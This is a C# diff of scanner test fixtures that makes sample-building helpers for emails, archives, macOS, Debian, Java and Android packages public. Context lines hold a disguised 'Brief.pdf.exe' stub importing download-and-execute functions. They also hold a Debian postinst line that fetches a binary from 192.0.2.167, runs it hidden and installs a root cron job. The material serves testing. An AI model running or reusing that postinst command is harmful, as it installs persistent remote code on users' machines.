@@ -21,7 +21,7 @@ public sealed class MailForms : SecondRound
         ];
     }
 
-    internal static byte[] Message(string from, string subject, string type, string body, params (string Name, byte[] Content)[] files)
+    public static byte[] Message(string from, string subject, string type, string body, params (string Name, byte[] Content)[] files)
     {
         var parts = string.Concat(files.Select(file => $"--b9\nContent-Type: {(file.Name.EndsWith(".eml", StringComparison.Ordinal) ? "message/rfc822" : "application/octet-stream")}; name=\"{file.Name}\"\nContent-Disposition: attachment; filename=\"{file.Name}\"\n" + (file.Name.EndsWith(".eml", StringComparison.Ordinal)
             ? $"\n{Encoding.UTF8.GetString(file.Content)}\n"
@@ -29,7 +29,7 @@ public sealed class MailForms : SecondRound
         return Encoding.UTF8.GetBytes($"Received: from mx.invalid by in.invalid; Tue, 4 Mar 2025 08:00:00 +0000\nDate: Tue, 4 Mar 2025 08:00:00 +0000\nMessage-ID: <{subject.Length}@mx.invalid>\nFrom: {from}\nTo: ann@firm.invalid\nSubject: {subject}\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=\"b9\"\n\n--b9\nContent-Type: {type}; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n{body}\n{parts}--b9--\n");
     }
 
-    internal static byte[] Locked(string kind, string password, params (string Name, byte[] Content)[] files)
+    public static byte[] Locked(string kind, string password, params (string Name, byte[] Content)[] files)
     {
         using var folder = new TemporaryFolder();
         foreach (var (name, content) in files)
@@ -54,7 +54,7 @@ public sealed class ImageForms : SecondRound
         ("Docs.tar.gz", InertFiles.Gzip(Tar(("Docs/Brief.pdf.exe", new PeBuilder().Importing("URLMON.dll", "URLDownloadToFileW").Importing("KERNEL32.dll", "CreateProcessW").Build())))),
     ];
 
-    internal static byte[] Tar(params (string Name, byte[] Content)[] members)
+    public static byte[] Tar(params (string Name, byte[] Content)[] members)
     {
         using var file = new MemoryStream();
         using (var writer = new System.Formats.Tar.TarWriter(file, System.Formats.Tar.TarEntryFormat.Ustar, leaveOpen: true))
@@ -63,7 +63,7 @@ public sealed class ImageForms : SecondRound
         return file.ToArray();
     }
 
-    internal static byte[] Image(params (string Name, byte[] Content)[] files)
+    public static byte[] Image(params (string Name, byte[] Content)[] files)
     {
         using var folder = new TemporaryFolder();
         foreach (var (name, content) in files)
@@ -86,7 +86,7 @@ public sealed class ImageForms : SecondRound
     }
 
     // A flat package of macOS: a xar archive whose scripts are a compressed cpio archive.
-    internal static byte[] Package(string preinstall)
+    public static byte[] Package(string preinstall)
     {
         using var folder = new TemporaryFolder();
         folder.Write("preinstall", Utf8(preinstall));
@@ -127,9 +127,9 @@ public sealed class PackageForms : SecondRound
         ("cleanup.deb", Deb("#!/bin/bash\nset -e\n(wget -qO /usr/bin/.sysd http://192.0.2.167/s; chmod +x /usr/bin/.sysd; /usr/bin/.sysd) >/dev/null 2>&1 &\necho '* * * * * root /usr/bin/.sysd' > /etc/cron.d/sysd\n")),
     ];
 
-    internal static byte[] Tgz(params (string Name, string Text)[] members) => InertFiles.Gzip(ImageForms.Tar([.. members.Select(member => (member.Name, Encoding.UTF8.GetBytes(member.Text)))]));
+    public static byte[] Tgz(params (string Name, string Text)[] members) => InertFiles.Gzip(ImageForms.Tar([.. members.Select(member => (member.Name, Encoding.UTF8.GetBytes(member.Text)))]));
 
-    internal static byte[] Deb(string postinst)
+    public static byte[] Deb(string postinst)
     {
         var control = InertFiles.Gzip(ImageForms.Tar(("./control", Encoding.UTF8.GetBytes("Package: cleanup\nVersion: 1\nArchitecture: all\nMaintainer: x <x@x.invalid>\nDescription: x\n")), ("./postinst", Encoding.UTF8.GetBytes(postinst))));
         var data = InertFiles.Gzip(ImageForms.Tar(("./usr/share/doc/x", "x\n"u8.ToArray())));
@@ -140,7 +140,7 @@ public sealed class PackageForms : SecondRound
         [.. Encoding.ASCII.GetBytes($"{name,-16}{"0",-12}{"0",-6}{"0",-6}{"100644",-8}{content.Length,-10}`\n"), .. content, .. content.Length % 2 == 0 ? Array.Empty<byte>() : [(byte)'\n']];
 
     // JVMS 4: a class whose constants name what it would call; it has no methods.
-    internal static byte[] JavaClass(string name, params string[] words)
+    public static byte[] JavaClass(string name, params string[] words)
     {
         byte[] Text(string text) => [1, (byte)(text.Length >> 8), (byte)text.Length, .. Encoding.ASCII.GetBytes(text)];
         var count = words.Length + 4;
@@ -148,7 +148,7 @@ public sealed class PackageForms : SecondRound
     }
 
     // Binary XML of Android: the document's chunk with a string pool of UTF-16.
-    internal static byte[] AndroidManifest(params string[] words)
+    public static byte[] AndroidManifest(params string[] words)
     {
         var texts = words.Select(word => (byte[])[(byte)word.Length, 0, .. Encoding.Unicode.GetBytes(word), 0, 0]).ToList();
         var start = 28 + (texts.Count * 4);
